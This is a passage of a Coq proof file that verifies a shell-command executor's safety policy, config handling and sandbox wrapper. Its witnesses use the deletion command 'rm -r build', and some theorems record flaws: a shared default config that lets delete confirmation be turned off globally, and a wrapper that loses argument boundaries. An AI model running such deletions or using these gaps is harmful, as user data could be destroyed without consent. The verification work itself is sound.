    [ split; intros Hs; try rewrite Hs; simpl;
      first [ split; reflexivity | discriminate | idtac ]
    | ].
  all: intros Hsbs Hsk Hr; try discriminate Hsk; try discriminate Hr; subst sbs.
  all: match goal with
       | F : (false || _) = true |- Policy.risk ?x = _ =>
           simpl in F; destruct (Policy.risk x); first [reflexivity | discriminate F]
       | E : negb true = true |- _ => discriminate E
       end.
Qed.


Lemma run_steps_log : forall sbs sts ctx st rs st',
  run_steps W execute_fn approve_fn confirm_delete sbs ctx st sts = inr (rs, st') ->
  exists L,
    exec_log W st' = app (exec_log W st) L /\
    runs_ok confirm_delete L /\
    length L <= 3 * length (filter ran rs) /\
    Forall result_ok rs /\
    (sbs = false -> forall r, In r rs -> sr_skipped r = true -> sr_risk r = "high" ->
     Policy.risk (Policy.check_command confirm_delete (sr_command r)) = Policy.HIGH).
Proof.
  intros sbs sts. induction sts as [|step sts IH]; intros ctx st rs st' H.
  - simpl in H. injection H as <- <-. exists []. rewrite app_nil_r.
    split; [reflexivity|]. split; [intros c []|]. split; [simpl; lia|].
    split; [constructor | intros _ r []].
  - simpl in H.
    destruct (run_step _ _ _ _ sbs ctx st step) as [e|[[ctx1 st1] r]] eqn:E1;
      simpl in H; [discriminate|].
    destruct (run_steps _ _ _ _ sbs ctx1 st1 sts) as [e|[rs' st2]] eqn:E2;
      simpl in H; [discriminate|].
    injection H as <- <-.
    destruct (run_step_shape _ _ _ _ _ _ _ _ _ _ _ E1) as [Hsr _].
    destruct (step_result_log _ _ _ _ _ _ Hsr) as [L1 [Hl1 [Hok1 [Hlen1 [Hr1 Hh1]]]]].
    destruct (IH _ _ _ _ E2) as [L2 [Hl2 [Hok2 [Hlen2 [Hr2 Hh2]]]]].
    exists (app L1 L2). split; [rewrite Hl2, Hl1, app_assoc; reflexivity|].
    split; [intros c Hc; apply in_app_or in Hc as [Hc|Hc]; auto|].
    split; [rewrite length_app; simpl; destruct (ran r); simpl; lia|].
    split; [constructor; assumption|].
    intros Hs r0 [<-|Hin]; [exact (Hh1 Hs) | exact (Hh2 Hs r0 Hin)].
Qed.


(** In every result of [execute_plan], success comes with no error and
    no skip, and a failure always carries an error message. *)
Theorem execute_plan_results_consistent : forall plan st sbs rs st',
  execute_plan W execute_fn approve_fn confirm_delete plan st sbs = inr (rs, st') ->
  Forall result_ok rs.
Proof.
  intros plan st sbs rs st' H. unfold execute_plan in H.
  destruct (run_steps_log _ _ _ _ _ _ H) as [L [_ [_ [_ [H4 _]]]]]. exact H4.
Qed.

(** Without step-by-step mode, a step the user cancelled (skipped, risk
    "high") has a command the policy rates HIGH: the user is asked only
    for those. *)
Theorem execute_plan_cancel_only_high : forall plan st rs st' r,
  execute_plan W execute_fn approve_fn confirm_delete plan st false = inr (rs, st') ->
  In r rs -> sr_skipped r = true -> sr_risk r = "high" ->
  Policy.risk (Policy.check_command confirm_delete (sr_command r)) = Policy.HIGH.
Proof.
  intros plan st rs st' r H. unfold execute_plan in H.
  destruct (run_steps_log _ _ _ _ _ _ H) as [L [_ [_ [_ [_ H5]]]]]. exact (H5 eq_refl r).
Qed.

End Steps.

Import Scenarios ExtraDefs.


Lemma execute_plan_results_consistent_witness :
  run_table touch_tbl plan_touch =
    inr ([mkStepResult (JInt 1) "touch a/b"
            "touch: cannot touch 'a/b': No such file or directory" false "medium" false
            (Some "touch: cannot touch 'a/b': No such file or directory");
          mkStepResult (JInt 2) "rm -r build" "" true "high" false None],
         mkSt unit tt ["touch a/b"; "mkdir -p a"; "touch a/b"; "rm -r build"]) /\
  Forall result_ok
    [mkStepResult (JInt 1) "touch a/b"
       "touch: cannot touch 'a/b': No such file or directory" false "medium" false
       (Some "touch: cannot touch 'a/b': No such file or directory");
     mkStepResult (JInt 2) "rm -r build" "" true "high" false None].
Proof.
  split; [vm_compute; reflexivity|].
  apply (execute_plan_results_consistent unit (exec_table touch_tbl) approve_all true
           plan_touch start false _ (mkSt unit tt ["touch a/b"; "mkdir -p a"; "touch a/b"; "rm -r build"])).
  vm_compute. reflexivity.
Defined.

Lemma execute_plan_cancel_only_high_witness :
  execute_plan unit (exec_table touch_tbl) approve_none true plan_touch start false =
    inr ([mkStepResult (JInt 1) "touch a/b"
            "touch: cannot touch 'a/b': No such file or directory" false "medium" false
            (Some "touch: cannot touch 'a/b': No such file or directory");
          mkStepResult (JInt 2) "rm -r build" "" false "high" true (Some "User cancelled")],
         mkSt unit tt ["touch a/b"; "mkdir -p a"; "touch a/b"]) /\
  Policy.risk (Policy.check_command true "rm -r build") = Policy.HIGH.
Proof.
  split; [vm_compute; reflexivity|].
  apply (execute_plan_cancel_only_high unit (exec_table touch_tbl) approve_none true
           plan_touch start
           [mkStepResult (JInt 1) "touch a/b"
              "touch: cannot touch 'a/b': No such file or directory" false "medium" false
              (Some "touch: cannot touch 'a/b': No such file or directory");
            mkStepResult (JInt 2) "rm -r build" "" false "high" true (Some "User cancelled")]
           (mkSt unit tt ["touch a/b"; "mkdir -p a"; "touch a/b"])
           (mkStepResult (JInt 2) "rm -r build" "" false "high" true (Some "User cancelled")));
    [vm_compute; reflexivity | right; left; reflexivity | reflexivity | reflexivity].
Defined.

End ExecutorExtra.

Module ConfigExtra.

Import PyStr Json PyVal Config.
Local Open Scope string_scope.

Lemma obj_get_set (k k' : string) (v : json) (l : list (string * json)) :
  obj_get k (obj_set k' v l) = if String.eqb k k' then Some v else obj_get k l.
Proof.
  induction l as [|[k0 v0] l IH]; simpl.
  - destruct (String.eqb k k'); reflexivity.
  - destruct (String.eqb_spec k' k0) as [->|Hne]; simpl.
    + destruct (String.eqb k k0); reflexivity.
    + rewrite IH.
      destruct (String.eqb_spec k k0), (String.eqb_spec k k'); subst; congruence.
Qed.

Lemma obj_get_In (k : string) (v : json) (l : list (string * json)) :
  obj_get k l = Some v -> In (k, v) l.
Proof.
  induction l as [|[k0 v0] l IH]; simpl; [discriminate|].
  destruct (String.eqb_spec k k0) as [->|]; intros H.
  - injection H as <-. left; reflexivity.
  - right; auto.
Qed.

Lemma obj_get_None_notin (k : string) (v : json) (l : list (string * json)) :
  obj_get k l = None -> In (k, v) l -> False.
Proof.
  induction l as [|[k0 v0] l IH]; simpl; [tauto|].
  destruct (String.eqb_spec k k0) as [->|Hne]; [discriminate|].
  intros H [E|Hin]; [injection E as -> ->; tauto | eauto].
Qed.

Lemma In_obj_get (k : string) (v : json) (l : list (string * json)) :
  NoDup (map fst l) -> In (k, v) l -> obj_get k l = Some v.
Proof.
  induction l as [|[k0 v0] l IH]; simpl; [tauto|].
  intros Hnd [E|Hin]; inversion Hnd as [|? ? Hnot Hnd']; subst.
  - injection E as -> ->. rewrite String.eqb_refl. reflexivity.
  - destruct (String.eqb_spec k k0) as [->|]; auto.
    exfalso. apply Hnot. change k0 with (fst (k0, v)). apply in_map; assumption.
Qed.

Lemma in_keys_set (x k : string) (v : json) (l : list (string * json)) :
  In x (map fst (obj_set k v l)) -> x = k \/ In x (map fst l).
Proof.
  induction l as [|[k0 v0] l IH]; simpl.
  - intros [H|[]]; left; congruence.
  - destruct (String.eqb k k0); simpl; intros [H|H]; auto.
    destruct (IH H); auto.
Qed.

Lemma nodup_set (k : string) (v : json) (l : list (string * json)) :
  NoDup (map fst l) -> NoDup (map fst (obj_set k v l)).
Proof.
  induction l as [|[k0 v0] l IH]; simpl; intros Hnd.
  - constructor; [tauto | constructor].
  - inversion Hnd as [|? ? Hnot Hnd']; subst.
    destruct (String.eqb_spec k k0) as [->|Hne]; simpl; [assumption|].
    constructor; auto.
    intros Hin. destruct (in_keys_set _ _ _ _ Hin); [congruence | tauto].
Qed.

Lemma merge_snoc (a b : list (string * json)) (kv : string * json) :
  dict_merge a (b ++ [kv]) = obj_set (fst kv) (snd kv) (dict_merge a b).
Proof. unfold dict_merge. rewrite fold_left_app. reflexivity. Qed.

Lemma nodup_merge (a b : list (string * json)) :
  NoDup (map fst a) -> NoDup (map fst (dict_merge a b)).
Proof.
  unfold dict_merge. revert a.
  induction b as [|kv b IH]; simpl; intros a Hnd; auto using nodup_set.
Qed.

(** A key of [{**a, **b}] has its last value in [b], else its value in
    [a]. *)
Lemma merge_get (a b : list (string * json)) (k : string) :
  obj_get k (dict_merge a b) =
  match obj_get k (rev b) with Some v => Some v | None => obj_get k a end.
Proof.
  induction b as [|[k' v'] b IH] using rev_ind; [reflexivity|].
  rewrite merge_snoc, obj_get_set, rev_app_distr. simpl.
  destruct (String.eqb k k'); [reflexivity | exact IH].
Qed.

Lemma obj_get_rev (k : string) (l : list (string * json)) :
  NoDup (map fst l) -> obj_get k (rev l) = obj_get k l.
Proof.
  intros Hnd. destruct (obj_get k l) as [v|] eqn:E.
  - apply In_obj_get.
    + rewrite map_rev. apply NoDup_rev. assumption.
    + apply -> in_rev. apply obj_get_In. assumption.
  - destruct (obj_get k (rev l)) as [v|] eqn:E2; [|reflexivity].
    exfalso. apply obj_get_In in E2. apply <- in_rev in E2.
    exact (obj_get_None_notin _ _ _ E E2).
Qed.

Lemma obj_get_rev_None (k : string) (l : list (string * json)) :
  obj_get k l = None -> obj_get k (rev l) = None.
Proof.
  intros E. destruct (obj_get k (rev l)) as [v|] eqn:E2; [|reflexivity].
  exfalso. apply obj_get_In in E2. apply <- in_rev in E2.
  exact (obj_get_None_notin _ _ _ E E2).
Qed.

Lemma nodup_default (ds : list (string * json)) : NoDup (map fst (DEFAULT_CONFIG ds)).
Proof.
  cbn [DEFAULT_CONFIG map fst].
  repeat constructor; cbn; intuition discriminate.
Qed.

Lemma default_get_safety (ds : list (string * json)) :
  obj_get "safety" (DEFAULT_CONFIG ds) = Some (JObj ds).
Proof. reflexivity. Qed.

Lemma default_get_cgroups (ds : list (string * json)) :
  obj_get "cgroups" (DEFAULT_CONFIG ds) = Some (JObj DEFAULT_CGROUPS).
Proof. reflexivity. Qed.

(** What [load_config] gives: a dict without repeated keys that has a
    ["safety"] key. *)
Lemma load_config_safety (ds : list (string * json)) (file : option json)
    (c : list (string * json)) :
  load_config ds file = inr c ->
  NoDup (map fst c) /\ exists j, obj_get "safety" c = Some j.
Proof.
  destruct file as [[]|]; simpl; intros H; try discriminate;
    injection H as <-.
  - split; [apply nodup_merge, nodup_default|].
    rewrite merge_get, default_get_safety.
    destruct (obj_get "safety" (rev _)); eauto.
  - split; [apply nodup_default | eexists; apply default_get_safety].
Qed.

(** The outcome of a successful [set_safety_setting]: the ["safety"] dict
    [s] that [load_config] gave, with the converted value stored under
    the key. *)
Lemma set_safety_setting_inv (ds : list (string * json)) (file : option json)
    (key : string) (value v : json) (ds' : list (string * json)) (file' : option json) :
  set_safety_setting ds file key value = inr (ds', file') ->
  convert_value value = inr v ->
  exists c s, load_config ds file = inr c /\ obj_get "safety" c = Some (JObj s) /\
    NoDup (map fst c) /\
    ds' = (if safety_shared file then obj_set key v s else ds) /\
    file' = Some (JObj (obj_set "safety" (JObj (obj_set key v s)) c)).
Proof.
  unfold set_safety_setting. intros H Hv.
  destruct (load_config ds file) as [e|c] eqn:L; [discriminate|].
  destruct (load_config_safety _ _ _ L) as [Hnd [j Hj]].
  rewrite Hj, Hv, Hj in H.
  destruct j; try discriminate H.
  injection H as <- <-. do 2 eexists. eauto.
Qed.

(** Reading a setting back from a file that [set_safety_setting] wrote. *)
Lemma get_after_set (ds : list (string * json)) (c s : list (string * json))
    (key key' : string) (v : json) (ds' : list (string * json)) :
  NoDup (map fst c) ->
  get_safety_setting ds' (Some (JObj (obj_set "safety" (JObj (obj_set key v s)) c))) key' =
  inr (obj_get_default key' JNull (obj_set key v s)).
Proof.
  intros Hnd. unfold get_safety_setting, load_config.
  unfold obj_get_default at 1. rewrite merge_get, obj_get_rev by (apply nodup_set; assumption).
  rewrite obj_get_set. reflexivity.
Qed.

(** A string that [isdigit] accepts is its own lower case and is neither
    [true] nor [false]. *)
Lemma isdigit_lower (s : string) : StrPred.str_forall isdigit_char s = true -> lower s = s.
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  intros H. apply andb_prop in H as [Hc Hs]. rewrite IH by assumption.
  f_equal. unfold lower_char.
  unfold isdigit_char, is_digit in Hc.
  destruct (nat_of_ascii c) as [|n] eqn:E; [reflexivity|].
  repeat (apply orb_prop in Hc as [Hc|Hc]);
    repeat match goal with
           | H : _ && _ = true |- _ => apply andb_prop in H as [? ?]
           | H : Nat.leb _ _ = true |- _ => apply Nat.leb_le in H
           | H : Nat.eqb _ _ = true |- _ => apply Nat.eqb_eq in H
           end;
    (replace (Nat.leb 65 (S n) && Nat.leb (S n) 90 || (Nat.leb 192 (S n) && Nat.leb (S n) 222
              && negb (Nat.eqb (S n) 215))) with false
       by (symmetry; repeat rewrite ?orb_false_iff, ?andb_false_iff, ?negb_false_iff,
                        ?Nat.leb_gt, ?Nat.eqb_eq; lia));
    reflexivity.
Qed.

Lemma convert_superscript (s : string) :
  isdigit s = true -> StrPred.str_forall is_digit s = false ->
  convert_value (JStr s) = inl ValueError.
Proof.
  intros Hd Hn. unfold convert_value.
  assert (Hall : StrPred.str_forall isdigit_char s = true)
    by (destruct s; [discriminate | exact Hd]).
  rewrite (isdigit_lower s Hall), Hd.
  destruct (String.eqb_spec s "true") as [->|]; [discriminate|].
  destruct (String.eqb_spec s "false") as [->|]; [discriminate|].
  unfold py_int. rewrite Hn. reflexivity.
Qed.

(** [set_safety_setting] followed by [get_safety_setting] of the same key
    gives the converted value, and every other key keeps its value. *)
Theorem set_then_get_safety (ds : list (string * json)) (file : option json)
    (key : string) (value v : json) (ds' : list (string * json)) (file' : option json)
    (Hset : set_safety_setting ds file key value = inr (ds', file'))
    (Hconv : convert_value value = inr v) :
  get_safety_setting ds' file' key = inr v /\
  forall key', key' <> key -> get_safety_setting ds' file' key' = get_safety_setting ds file key'.
Proof.
  destruct (set_safety_setting_inv _ _ _ _ _ _ _ Hset Hconv)
    as (c & s & L & Hs & Hnd & _ & ->).
  split.
  - rewrite get_after_set by assumption.
    unfold obj_get_default. rewrite obj_get_set, String.eqb_refl. reflexivity.
  - intros key' Hne. rewrite get_after_set by assumption.
    unfold get_safety_setting. rewrite L. unfold obj_get_default at 2. rewrite Hs.
    unfold obj_get_default. rewrite obj_get_set.
    destruct (String.eqb_spec key' key); [contradiction | reflexivity].
Qed.

Lemma set_then_get_safety_witness :
  set_safety_setting DEFAULT_SAFETY None "max_files_per_operation" (JStr "250") =
    inr ([("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool true);
          ("max_files_per_operation", JInt 250)],
         Some (JObj (DEFAULT_CONFIG
           [("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool true);
            ("max_files_per_operation", JInt 250)]))) /\
  get_safety_setting
    [("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool true);
     ("max_files_per_operation", JInt 250)]
    (Some (JObj (DEFAULT_CONFIG
       [("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool true);
        ("max_files_per_operation", JInt 250)]))) "max_files_per_operation" = inr (JInt 250).
Proof.
  split; [vm_compute; reflexivity|].
  apply (set_then_get_safety DEFAULT_SAFETY None "max_files_per_operation" (JStr "250")
           (JInt 250)); vm_compute; reflexivity.
Defined.

(** A config file's ["safety"] and ["cgroups"] values replace the defaults
    whole: a key missing from the file's ["safety"] dict reads as [None]
    (not the default), and a ["safety"] value that is no dict makes
    [get_safety_setting] raise [AttributeError]. *)
Theorem config_file_sections_replace_defaults (ds kvs : list (string * json)) (key : string)
    (Hnd : NoDup (map fst kvs)) :
  get_safety_setting ds (Some (JObj kvs)) key =
    match obj_get "safety" kvs with
    | None => inr (obj_get_default key JNull ds)
    | Some (JObj s) => inr (obj_get_default key JNull s)
    | Some _ => inl (CfgPyExc AttributeError)
    end /\
  get_cgroup_config ds (Some (JObj kvs)) =
    inr (match obj_get "cgroups" kvs with Some v => v | None => JObj DEFAULT_CGROUPS end).
Proof.
  unfold get_safety_setting, get_cgroup_config, load_config, obj_get_default.
  rewrite !merge_get, !obj_get_rev by assumption.
  rewrite default_get_safety, default_get_cgroups.
  split; [destruct (obj_get "safety" kvs) as [[]|] | destruct (obj_get "cgroups" kvs)];
    reflexivity.
Qed.

Lemma config_file_sections_replace_defaults_witness :
  NoDup (map fst [("safety", JObj [("block_rm_rf", JBool true)])]) /\
  get_safety_setting DEFAULT_SAFETY (Some (JObj [("safety", JObj [("block_rm_rf", JBool true)])]))
    "require_confirmation_for_delete" = inr JNull /\
  get_cgroup_config DEFAULT_SAFETY (Some (JObj [("safety", JObj [("block_rm_rf", JBool true)])]))
    = inr (JObj DEFAULT_CGROUPS).
Proof.
  assert (Hnd : NoDup (map fst [("safety", JObj [("block_rm_rf", JBool true)])]))
    by (repeat constructor; simpl; tauto).
  split; [exact Hnd|].
  exact (config_file_sections_replace_defaults DEFAULT_SAFETY
           [("safety", JObj [("block_rm_rf", JBool true)])] "require_confirmation_for_delete" Hnd).
Defined.

(** When there is no config file, or it has no ["safety"] key,
    [set_safety_setting] also writes into [DEFAULT_CONFIG["safety"]] (the
    shallow copy shares it), so a later read of any file without a
    ["safety"] key sees the new value; otherwise [DEFAULT_CONFIG] is left
    alone. *)
Theorem set_safety_setting_updates_default (ds : list (string * json)) (file : option json)
    (key : string) (value v : json) (ds' : list (string * json)) (file' : option json)
    (Hset : set_safety_setting ds file key value = inr (ds', file'))
    (Hconv : convert_value value = inr v) :
  ds' = (if safety_shared file then obj_set key v ds else ds) /\
  (safety_shared file = true ->
   forall kvs, obj_get "safety" kvs = None ->
   get_safety_setting ds' (Some (JObj kvs)) key = inr v).
Proof.
  destruct (set_safety_setting_inv _ _ _ _ _ _ _ Hset Hconv)
    as (c & s & L & Hs & _ & -> & _).
  assert (Hsh : safety_shared file = true -> s = ds).
  { destruct file as [[| | | | | fk]|]; simpl in L |- *; try discriminate L; injection L as <-.
    - destruct (obj_get "safety" fk) eqn:E; [discriminate|]. intros _.
      rewrite merge_get, (obj_get_rev_None _ _ E), default_get_safety in Hs.
      injection Hs as ->. reflexivity.
    - intros _. rewrite default_get_safety in Hs. injection Hs as ->. reflexivity. }
  split.
  - destruct (safety_shared file) eqn:E; [rewrite (Hsh eq_refl)|]; reflexivity.
  - intros E kvs Hk. rewrite E.
    unfold get_safety_setting, load_config, obj_get_default at 1.
    rewrite merge_get, (obj_get_rev_None _ _ Hk), default_get_safety.
    unfold obj_get_default. rewrite obj_get_set, String.eqb_refl. reflexivity.
Qed.

Lemma set_safety_setting_updates_default_witness :
  set_safety_setting DEFAULT_SAFETY None "require_confirmation_for_delete" (JStr "False") =
    inr ([("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool false);
          ("max_files_per_operation", JInt 100)],
         Some (JObj (DEFAULT_CONFIG
           [("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool false);
            ("max_files_per_operation", JInt 100)]))) /\
  get_safety_setting
    [("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool false);
     ("max_files_per_operation", JInt 100)]
    (Some (JObj [("llm_backend", JStr "openai")])) "require_confirmation_for_delete"
    = inr (JBool false).
Proof.
  split; [vm_compute; reflexivity|].
  apply (set_safety_setting_updates_default DEFAULT_SAFETY None
           "require_confirmation_for_delete" (JStr "False") (JBool false)
           _ (Some (JObj (DEFAULT_CONFIG
              [("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool false);
               ("max_files_per_operation", JInt 100)]))));
    vm_compute; reflexivity.
Defined.

(** A value that [str.isdigit] accepts but that holds a superscript digit
    is passed to [int()], which raises [ValueError]: nothing is saved. *)
Theorem set_safety_setting_superscript (ds : list (string * json)) (file : option json)
    (key s : string) (c : list (string * json))
    (Hload : load_config ds file = inr c)
    (Hd : isdigit s = true) (Hn : StrPred.str_forall is_digit s = false) :
  set_safety_setting ds file key (JStr s) = inl ValueError.
Proof.
  unfold set_safety_setting. rewrite Hload, (convert_superscript s Hd Hn). reflexivity.
Qed.

Lemma set_safety_setting_superscript_witness :
  load_config DEFAULT_SAFETY None = inr (DEFAULT_CONFIG DEFAULT_SAFETY) /\
  isdigit (String "050" (String "178" EmptyString)) = true /\
  StrPred.str_forall is_digit (String "050" (String "178" EmptyString)) = false /\
  set_safety_setting DEFAULT_SAFETY None "max_files_per_operation"
    (JStr (String "050" (String "178" EmptyString))) = inl ValueError.
Proof.
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  exact (set_safety_setting_superscript DEFAULT_SAFETY None "max_files_per_operation"
           (String "050" (String "178" EmptyString)) (DEFAULT_CONFIG DEFAULT_SAFETY)
           eq_refl eq_refl eq_refl).
Defined.

(** After [max_files_per_operation] is set, [get_max_files_limit] gives
    the converted value, or 100 when that value is falsy ([0], [false],
    the empty string). *)
Theorem max_files_limit_after_set (ds : list (string * json)) (file : option json)
    (value v : json) (ds' : list (string * json)) (file' : option json)
    (Hset : set_safety_setting ds file "max_files_per_operation" value = inr (ds', file'))
    (Hconv : convert_value value = inr v) :
  get_max_files_limit ds' file' = inr (if truthy v then v else JInt 100).
Proof.
  destruct (set_safety_setting_inv _ _ _ _ _ _ _ Hset Hconv)
    as (c & s & _ & _ & Hnd & _ & ->).
  unfold get_max_files_limit. rewrite get_after_set by assumption.
  unfold obj_get_default. rewrite obj_get_set, String.eqb_refl. reflexivity.
Qed.

Lemma max_files_limit_after_set_witness :
  set_safety_setting DEFAULT_SAFETY None "max_files_per_operation" (JStr "0") =
    inr ([("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool true);
          ("max_files_per_operation", JInt 0)],
         Some (JObj (DEFAULT_CONFIG
           [("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool true);
            ("max_files_per_operation", JInt 0)]))) /\
  convert_value (JStr "0") = inr (JInt 0) /\
  get_max_files_limit
    [("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool true);
     ("max_files_per_operation", JInt 0)]
    (Some (JObj (DEFAULT_CONFIG
       [("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool true);
        ("max_files_per_operation", JInt 0)]))) = inr (JInt 100).
Proof.
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  exact (max_files_limit_after_set DEFAULT_SAFETY None (JStr "0") (JInt 0) _ _
           (eq_refl : set_safety_setting DEFAULT_SAFETY None "max_files_per_operation" (JStr "0") =
              inr ([("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool true);
                    ("max_files_per_operation", JInt 0)],
                   Some (JObj (DEFAULT_CONFIG
                     [("block_rm_rf", JBool true); ("require_confirmation_for_delete", JBool true);
                      ("max_files_per_operation", JInt 0)]))))
           eq_refl).
Defined.

End ConfigExtra.

Module TextFacts.

Import PyStr Json StrPred.
Import PolicyFacts (str_app_assoc).
Local Open Scope string_scope.

Lemma text_app_nil (s : string) : s ++ "" = s.
Proof. induction s as [|c s IH]; simpl; [reflexivity | rewrite IH; reflexivity]. Qed.

(** The escape [json.dumps] writes for one character is read back as that
    character. *)
Lemma parse_str_dump_char (c : ascii) (r acc : string) :
  parse_str (dump_char c ++ r) acc = parse_str r (acc ++ String c "").
Proof.
  destruct c as [[] [] [] [] [] [] [] []]; reflexivity.
Qed.

Lemma parse_str_dump_chars (s r acc : string) :
  parse_str (dump_chars s ++ String dq r) acc = Some (acc ++ s, r).
Proof.
  revert acc. induction s as [|c s IH]; intros acc; simpl.
  - rewrite text_app_nil. reflexivity.
  - rewrite str_app_assoc, parse_str_dump_char, IH, str_app_assoc. reflexivity.
Qed.

(** [json.loads(json.dumps(s)) == s] for a string. *)
Lemma json_loads_dump_str (s : string) : json_loads (dump_str s) = Some (JStr s).
Proof.
  unfold json_loads.
  change (skip_ws (dump_str s)) with (dump_str s).
  replace (2 * String.length (dump_str s) + 2) with (S (2 * String.length (dump_str s) + 1))
    by lia.
  generalize (2 * String.length (dump_str s) + 1) as n. intros n.
  unfold dump_str.
  remember (dump_chars s ++ String dq "") as X eqn:HX.
  simpl. rewrite HX, parse_str_dump_chars. reflexivity.
Qed.

(** [s.replace(old, new)] leaves [s] alone when [old] does not occur. *)
Lemma replace_absent (old new s : string) :
  contains old s = false -> replace old new s = s.
Proof.
  unfold replace. generalize (S (String.length s)) as f.
  induction s as [|c s IH]; intros f H; destruct f; cbn [replace_aux]; try reflexivity.
  assert (Hp : String.prefix old (String c s) || contains old s = false) by exact H.
  apply orb_false_iff in Hp as [Hp Hs]. rewrite Hp, IH by exact Hs. reflexivity.
Qed.

Lemma split_char_aux_cons (sep : ascii) (cur s : string) :
  exists x rest, split_char_aux sep cur s = (cur ++ x) :: rest.
Proof.
  revert cur. induction s as [|c s IH]; intros cur; simpl.
  - exists "", []. rewrite text_app_nil. reflexivity.
  - destruct (Ascii.eqb c sep).
    + exists "", (split_char_aux sep "" s). rewrite text_app_nil. reflexivity.
    + destruct (IH (cur ++ String c "")) as (x & rest & ->).
      exists (String c x), rest. rewrite str_app_assoc. reflexivity.
Qed.

(** [sep.join(s.split(sep)) == s]. *)
Lemma join_split_char_aux (sep : ascii) (cur s : string) :
  join (String sep "") (split_char_aux sep cur s) = cur ++ s.
Proof.
  revert cur. induction s as [|c s IH]; intros cur; simpl.
  - rewrite text_app_nil. reflexivity.
  - destruct (Ascii.eqb_spec c sep) as [->|].
    + destruct (split_char_aux_cons sep "" s) as (x & rest & E).
      replace (join (String sep "") (cur :: split_char_aux sep "" s))
        with (cur ++ String sep "" ++ join (String sep "") (split_char_aux sep "" s))
        by (rewrite E; reflexivity).
      rewrite IH. reflexivity.
    + rewrite IH, str_app_assoc. reflexivity.
Qed.

(** A text without the separator is one piece. *)
Lemma split_char_aux_nosep (sep : ascii) (cur s : string) :
  str_forall (fun c => negb (Ascii.eqb c sep)) s = true ->
  split_char_aux sep cur s = [cur ++ s].
Proof.
  revert cur. induction s as [|c s IH]; intros cur H; simpl in *.
  - rewrite text_app_nil. reflexivity.
  - apply andb_prop in H as [Hc Hs]. apply negb_true_iff in Hc. rewrite Hc.
    rewrite IH by exact Hs. rewrite str_app_assoc. reflexivity.
Qed.

(** Splitting at a separator that ends the first part. *)
Lemma split_char_aux_app (sep : ascii) (cur a b : string) :
  split_char_aux sep cur (a ++ String sep b) =
  app (split_char_aux sep cur a) (split_char_aux sep "" b).
Proof.
  revert cur. induction a as [|c a IH]; intros cur; simpl.
  - rewrite Ascii.eqb_refl. reflexivity.
  - destruct (Ascii.eqb c sep); [rewrite IH; reflexivity | apply IH].
Qed.

End TextFacts.

Module SandboxExtra.

Import PyStr SandboxWrapper.
Import PolicyFacts (str_app_assoc).
Local Open Scope string_scope.

(** [sandbox_wrapper.py] with no command prints its usage and exits with
    status 1; otherwise it joins its arguments with single spaces, so
    argument boundaries are lost: an argument [a b] runs the same command
    as the two arguments [a] and [b]. *)
Theorem sandbox_main_joins_arguments :
  (forall argv, List.length argv < 2 ->
     main argv = UsageExit "Usage: sandbox_wrapper.py <command>" 1) /\
  (forall script a b rest,
     main (script :: (a ++ " " ++ b) :: rest) = main (script :: a :: b :: rest)).
Proof.
  split.
  - intros argv H. unfold main. apply Nat.ltb_lt in H. rewrite H. reflexivity.
  - intros script a b rest. unfold main. simpl List.length.
    replace (Nat.ltb (S (S (List.length rest))) 2) with false
      by (symmetry; apply Nat.ltb_ge; lia).
    replace (Nat.ltb (S (S (S (List.length rest)))) 2) with false
      by (symmetry; apply Nat.ltb_ge; lia).
    cbn [tl]. destruct rest as [|r rest]; [reflexivity|].
    cbn [join]. rewrite !str_app_assoc. reflexivity.
Qed.

End SandboxExtra.

Module ExecutorExtra2.

Import PyStr Json PyVal Actions Planner Executor ExecutorFacts ExtraDefs TextFacts.
Import ExecutorExtra.
Local Open Scope string_scope.

(** [ctx.substitute(text)] leaves [text] alone when no variable name
    occurs in it. *)
Lemma substitute_absent (ctx : ExecutionContext) (text : string) :
  (forall kv, In kv (variables ctx) -> contains (fst kv) text = false) ->
  substitute ctx text = text.
Proof.
  unfold substitute. generalize (variables ctx) as l.
  induction l as [|kv l IH]; intros H; simpl; [reflexivity|].
  rewrite replace_absent by (apply H; left; reflexivity).
  apply IH. intros kv' Hin. apply H. right; exact Hin.
Qed.

(** [parse_action] on the dump of a JSON string: [json.loads] gives the
    string back, whose [.get] raises [AttributeError]. *)
Lemma parse_action_dump_str (t : string) : parse_action (dump_str t) = inl AttributeError.
Proof. unfold parse_action. rewrite json_loads_dump_str. reflexivity. Qed.

(** The command for a step that ran is judged by its final output only. *)
Definition output_judged (r : StepResult) : Prop :=
  ran r = true ->
  sr_success r = negb (looks_like_error (sr_command r) (sr_output r)).

Lemma looks_like_error_passthrough (c o : string) :
  In (match split_ws (strip c) with [] => "" | w :: _ => w end) passthrough ->
  looks_like_error c o = false.
Proof.
  intros H. unfold looks_like_error. cbv zeta.
  rewrite (proj2 (existsb_exists _ _) (ex_intro _ _ (conj H (String.eqb_refl _)))).
  reflexivity.
Qed.

Section Steps2.

Variable W : Type.
Variable execute_fn : W -> string -> string * W.
Variable approve_fn : W -> string -> bool * W.
Variable confirm_delete : bool.

Lemma step_result_output_judged : forall sbs ctx st step r st',
  step_result W execute_fn approve_fn confirm_delete sbs ctx st step = inr (r, st') ->
  output_judged r.
Proof.
  intros sbs ctx st step r st' H.
  unfold step_result, call_exec, call_approve, bind, ret, raise in H.
  split_matches H; try discriminate H; clean_pairs; injection H as <- <-;
    unfold output_judged, ran; cbn [sr_skipped sr_risk sr_success sr_command sr_output];
    intros Hran; try discriminate Hran;
    first [reflexivity | symmetry; assumption | idtac].
  all: try congruence.
  all: match goal with
       | E : negb (Policy.allowed (Policy.check_command ?cd ?c)) = false |- _ =>
           rewrite (proj2 (String.eqb_neq _ _)
                      (allowed_not_blocked cd c (proj1 (negb_false_iff _) E))) in Hran
       end; discriminate Hran.
Qed.

